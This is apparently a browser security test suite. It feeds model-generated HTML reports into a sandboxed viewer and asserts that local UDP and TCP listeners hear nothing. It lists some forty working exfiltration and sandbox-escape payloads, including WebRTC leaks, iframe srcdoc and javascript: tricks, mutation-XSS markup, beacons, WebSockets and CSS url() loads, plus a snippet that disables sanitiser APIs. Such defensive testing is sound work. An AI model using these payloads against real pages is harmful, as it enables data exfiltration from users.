/**
 * Nothing of a shown report reaches any network, by itself or when pointed at (SPEC H4): model output that tries every way out, with
 * listeners on UDP and TCP that must hear nothing. A control first shows that they hear what no wall stops.
 */
import { createSocket } from "node:dgram";
import { createServer } from "node:net";
import { after, before, describe, it } from "node:test";
import { skip, startServer } from "./binary.mjs";
import { ask, assert, firstVisit, lastFrame, openBrowser } from "./harness.mjs";

let server;
let browser;
let page;
let udp;
let tcp;
const heard = [];

before(async () => {
  if (skip) return;
  udp = createSocket("udp4").on("message", (message) => heard.push(`udp ${message.length}`));
  await new Promise((resolve) => udp.bind(0, "127.0.0.1", resolve));
  tcp = createServer((socket) => (heard.push("tcp"), socket.on("error", () => {}).on("data", () => heard.push("tcp data"))));
  await new Promise((resolve) => tcp.listen(0, "127.0.0.1", resolve));
  server = await startServer({ pauseMs: 0 });
  browser = await openBrowser();
  page = browser.page;
  await page.goto(server.url);
  await firstVisit(page);
});

after(async () => {
  await browser?.close();
  await server?.close();
  udp?.close();
  tcp?.close();
});

const fill = (text) => text.replaceAll("@UDP@", `127.0.0.1:${udp.address().port}`).replaceAll("@TCP@", `127.0.0.1:${tcp.address().port}`);
const RTC = "const pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:@UDP@' }, { urls: 'turn:@UDP@', username: 'secret', credential: 'x' }, { urls: 'turn:@TCP@?transport=tcp', username: 'secret', credential: 'x' }] }); pc.createDataChannel('x'); pc.createOffer().then((o) => pc.setLocalDescription(o));";
const SPOIL = "for (const name of ['matches', 'querySelectorAll', 'remove', 'closest']) try { Element.prototype[name] = () => false } catch {}; try { Object.freeze = (o) => o; MutationObserver = function () { this.observe = () => {} } } catch {}";
const NESTED = `<script>${RTC}</script>`;
const attribute = (html) => html.replaceAll("&", "&amp;").replaceAll('"', "&quot;");
const script = (code) => `<div id="t">数</div><script>${SPOIL};${code}</script>`;
const inserting = (html) => script(`document.body.innerHTML += ${JSON.stringify(html).replaceAll("</", "<\\/")}; document.body.insertAdjacentHTML("beforeend", ${JSON.stringify(html).replaceAll("</", "<\\/")});`);

/** Model-made HTML, each with one way out. */
const WAYS = {
  "WebRTC": script(RTC),
  "WebRTC from a frame that a script appends": script(`const f = document.createElement("iframe"); f.srcdoc = ${JSON.stringify(NESTED).replaceAll("</", "<\\/")}; document.body.appendChild(f); document.documentElement.appendChild(f);`),
  "WebRTC from the realm of an empty frame": script(`const f = document.createElement("iframe"); document.body.append(f); const { RTCPeerConnection } = f.contentWindow; ${RTC}`),
  "a frame with srcdoc": `<div>a</div><iframe srcdoc="${attribute(NESTED)}"></iframe>`,
  "a frame with srcdoc, written by a script": inserting(`<iframe srcdoc="${attribute(NESTED)}"></iframe>`),
  "a frame with an address": '<div>a</div><iframe src="http://@TCP@/frame"></iframe>',
  "a javascript: frame": `<div>a</div><iframe src="javascript:${attribute(RTC)}"></iframe>`,
  "a data: frame": `<div>a</div><iframe src="data:text/html,${attribute(NESTED)}"></iframe>`,
  "an object": `<div>a</div><object data="http://@TCP@/object"></object><object data="data:text/html,${attribute(NESTED)}"></object>`,
  "an embed": '<div>a</div><embed src="http://@TCP@/embed">',
  "a portal and a fenced frame": '<div>a</div><portal src="http://@TCP@/portal"></portal><fencedframe src="http://@TCP@/fenced"></fencedframe>',
  "a frameset": '<html><frameset><frame src="http://@TCP@/frame"></frameset></html>',
  "a template with a shadow root": `<div><template shadowrootmode="open"><iframe srcdoc="${attribute(NESTED)}"></iframe><img src="http://@TCP@/i"></template></div>`,
  "a nested SVG document": `<svg><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="${attribute(NESTED)}"></iframe></foreignObject><image href="http://@TCP@/svg"/><use href="http://@TCP@/use#a"/></svg>`,
  "mutated markup": `<div><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;iframe srcdoc='${attribute(NESTED)}'&gt;"></table></mtext></math></div>`,
  "window.open": script('window.open("http://@TCP@/open"); open("http://@TCP@/open2", "_blank", "noopener")'),
  "prefetch, preload, prerender": '<div>a</div><link rel="prefetch" href="http://@TCP@/p"><link rel="preload" as="image" href="http://@TCP@/p2"><link rel="prerender" href="http://@TCP@/p3"><link rel="modulepreload" href="http://@TCP@/p4">',
  "dns-prefetch and preconnect": '<div>a</div><link rel="dns-prefetch" href="//@TCP@"><link rel="preconnect" href="http://@TCP@" crossorigin>',
  "preconnect, written by a script": inserting('<link rel="preconnect" href="http://@TCP@">'),
  "speculation rules": '<div>a</div><script type="speculationrules">{"prefetch":[{"source":"list","urls":["http://@TCP@/s"]}],"prerender":[{"source":"list","urls":["http://@TCP@/s2"]}]}</script>',
  "style sheets": '<div>a</div><link rel="stylesheet" href="http://@TCP@/css"><style>@import url("http://@TCP@/import"); @font-face { font-family: x; src: url(http://@TCP@/font) } body { font-family: x; background: url(http://@TCP@/bg); cursor: url(http://@TCP@/cur), auto; list-style-image: image-set("http://@TCP@/set" 1x) } div::before { content: url(http://@TCP@/content) }</style>',
  "style attributes": '<div style="background:url(http://@TCP@/attr);border-image:url(http://@TCP@/b) 1;mask:url(http://@TCP@/mask#m);filter:url(http://@TCP@/f#f)">a</div>',
  "images": '<div>a</div><img src="http://@TCP@/img" srcset="http://@TCP@/set 1x"><picture><source srcset="http://@TCP@/source"><img src="http://@TCP@/img2"></picture><input type="image" src="http://@TCP@/input">',
  "a script's image": script('new Image().src = "http://@TCP@/i"; const i = document.createElement("img"); i.src = "http://@TCP@/i2"; document.body.append(i); document.body.innerHTML += "<img src=http://@TCP@/i3>"'),
  "media": '<div>a</div><video src="http://@TCP@/v" poster="http://@TCP@/poster" autoplay></video><audio src="http://@TCP@/a" autoplay></audio><track src="http://@TCP@/t">',
  "a form": '<form id="f" action="http://@TCP@/form" method="post"><input name="a" value="1" autofocus onfocus="this.form.submit()"></form><script>document.getElementById("f").submit?.()</script>',
  "meta refresh": '<meta http-equiv="refresh" content="0;url=http://@TCP@/meta"><div>a</div>',
  "base": '<base href="http://@TCP@/"><div>a<img src="rel.png"></div>',
  "navigation": script('try { location.href = "http://@TCP@/nav" } catch {} try { location.assign("http://@TCP@/nav") } catch {} try { location = "http://@TCP@/nav" } catch {} try { top.location = "http://@TCP@/nav" } catch {} try { document.location = "http://@TCP@/nav" } catch {}'),
  "a javascript: navigation": script(`try { location.href = "javascript:" + ${JSON.stringify(`'${NESTED}'`).replaceAll("</", "<\\/")} } catch {}`),
  "a link with ping": script('const a = document.createElement("a"); a.href = "http://@TCP@/a"; a.ping = "http://@TCP@/ping"; document.body.append(a); a.click()'),
  "fetch": script('fetch("http://@TCP@/f", { mode: "no-cors", keepalive: true }).catch(() => {}); fetch("http://@TCP@/later", { method: "POST", body: "x" }).catch(() => {})'),
  "XHR": script('const x = new XMLHttpRequest(); x.open("POST", "http://@TCP@/x"); x.send("secret")'),
  "a beacon": script('(navigator.sendBeacon || (() => {})).call(navigator, "http://@TCP@/b", "secret"); Navigator?.prototype?.sendBeacon?.call(navigator, "http://@TCP@/b", "x")'),
  "WebSocket and EventSource": script('try { new WebSocket("ws://@TCP@/ws") } catch {} try { new WebSocketStream("ws://@TCP@/ws") } catch {} try { new EventSource("http://@TCP@/es") } catch {}'),
  "WebTransport": script('try { new WebTransport("https://@UDP@/wt").ready.catch(() => {}) } catch {}'),
  "a worker in the worker": script(`for (const code of ["fetch('http://@TCP@/w',{mode:'no-cors'})", "importScripts('http://@TCP@/w.js')", "new WebSocket('ws://@TCP@/w')", ${JSON.stringify(RTC)}]) try { new Worker(URL.createObjectURL(new Blob([code]))) } catch {} try { new SharedWorker("http://@TCP@/shared") } catch {}`),
  "imports": script('try { importScripts("http://@TCP@/i.js") } catch {} import("http://@TCP@/m.js").catch(() => {}); import("data:text/javascript,fetch(\'http://@TCP@/d\')").catch(() => {})'),
  "fonts of a worker": script('try { new FontFace("x", "url(http://@TCP@/font)").load().catch(() => {}) } catch {}'),
  "an option's pictures and tooltip": `<div id="c" style="height:300px"></div><script>echarts.init(document.getElementById("c")).setOption({ title: { text: "a", link: "http://@TCP@/l" }, backgroundColor: { image: "http://@TCP@/bgimg" }, tooltip: { alwaysShowContent: true, showContent: true, formatter: '<img src="http://@TCP@/tip"><link rel="preconnect" href="http://@TCP@"><iframe srcdoc="${attribute(NESTED).replaceAll("'", "\\'")}"></iframe>{c}' }, graphic: { type: "image", style: { image: "http://@TCP@/graphic" } }, xAxis: { data: ["a", "b"] }, yAxis: {}, series: [{ type: "scatter", symbol: "image://http://@TCP@/symbol", symbolSize: 60, data: [1, 2] }] })</script>`,
};

/**
 * What a script would do that ran in the frame's own document, which none of a report does. Chromium opens a connection for the
 * address of a frame or object before it asks the policy, and then sends nothing: only there are connections let pass, see docs/security.md.
 */
const IN_THE_DOCUMENT = {
  "a frame with srcdoc": `const f = document.createElement("iframe"); f.srcdoc = ${JSON.stringify(NESTED)}; document.body.append(f)`,
  "a frame with an address": 'const f = document.createElement("iframe"); f.src = "http://@TCP@/f"; document.body.append(f)',
  "a data: and a blob: frame": `for (const src of ["data:text/html," + ${JSON.stringify(NESTED)}, URL.createObjectURL(new Blob([${JSON.stringify(NESTED)}], { type: "text/html" }))]) { const f = document.createElement("iframe"); f.src = src; document.body.append(f) }`,
  "an inline script": `const s = document.createElement("script"); s.textContent = "window.ranInline = 1"; document.body.append(s); if (window.ranInline) fetch("http://@TCP@/")`,
  "a javascript: address": `location.href = "javascript:" + ${JSON.stringify(`'${NESTED}'`)}`,
  "an inline handler": `document.body.insertAdjacentHTML("beforeend", "<img src=x onerror=\\"parent.postMessage({type:'ba:error',message:'ran'},'*')\\">")`,
  "objects": `for (const data of ["http://@TCP@/o", "data:text/html," + ${JSON.stringify(NESTED)}]) { const o = document.createElement("object"); o.data = data; document.body.append(o) }`,
  "WebRTC itself": `try { ${RTC} } catch {}`,
};

async function silent({ connections = 0 } = {}) {
  await page.waitForTimeout(350);
  const [words] = [heard.splice(0)];
  const told = words.filter((word) => word !== "tcp");
  assert.deepEqual(told, [], "no packet and no request");
  assert.ok(words.length <= connections, "no connection");
  assert.ok(page.url().startsWith(server.url));
  assert.equal(page.context().pages().length, 1, "no window was opened");
}

async function answer(text) {
  const count = await page.locator("article[data-state]").count();
  await ask(page, `[text]${fill(text)}`);
  await page.locator("article[data-state=complete]").nth(count).waitFor();
  const article = page.locator("article[data-state]").nth(count);
  await article.locator("[data-part=frame]").first().waitFor();
  return article;
}

describe("a report reaches no network", { skip }, () => {
  it("while the listeners hear what nothing stops (the control)", async () => {
    const control = await browser.context.newPage();
    await control.goto("about:blank");
    await control.evaluate(fill(`${RTC} fetch("http://@TCP@/").catch(() => {})`));
    await control.waitForTimeout(1500);
    await control.close();
    assert.ok(heard.some((one) => one.startsWith("udp")) && heard.includes("tcp data"), heard.join());
    heard.length = 0;
  });

  for (const [name, html] of Object.entries(WAYS)) {
    it(`by ${name}`, async () => {
      const article = await answer(`攻击\n\n${html}`);
      const stage = article.locator("[data-part=frame] iframe").first();
      await stage.hover({ timeout: 3000, force: true }).catch(() => {});
      await silent();
    });
  }

  for (const [name, code] of Object.entries(IN_THE_DOCUMENT)) {
    it(`even if a script ran in the frame's document: ${name}`, async () => {
      const article = await answer("攻击\n\n<div>里面</div>");
      await article.locator("[data-part=frame][data-phase=ready]").waitFor();
      await (await lastFrame(page)).evaluate(fill(`(() => { ${code} })()`)).catch(() => {});
      await silent({ connections: /address$|objects/.test(name) ? 4 : 0 });
    });
  }
});
